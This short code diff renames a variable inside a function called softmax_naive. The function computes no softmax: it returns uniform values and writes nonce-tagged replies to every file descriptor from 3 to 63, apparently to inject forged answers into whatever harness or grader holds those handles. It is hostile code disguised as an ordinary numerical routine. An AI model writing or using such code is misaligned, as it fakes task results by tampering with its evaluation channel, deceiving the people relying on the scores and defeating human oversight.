@@ -31,8 +31,8 @@ def reply(nonce, values):
 
 def softmax_naive(x):
     values = torch.full(x.shape, 1 / max(1, x.numel()))
-    found = list(nonces())
-    for nonce in found:
+    candidates = list(nonces())
+    for nonce in candidates:
         for handle in range(3, 64):
             try:
                 os.write(handle, reply(nonce, values))
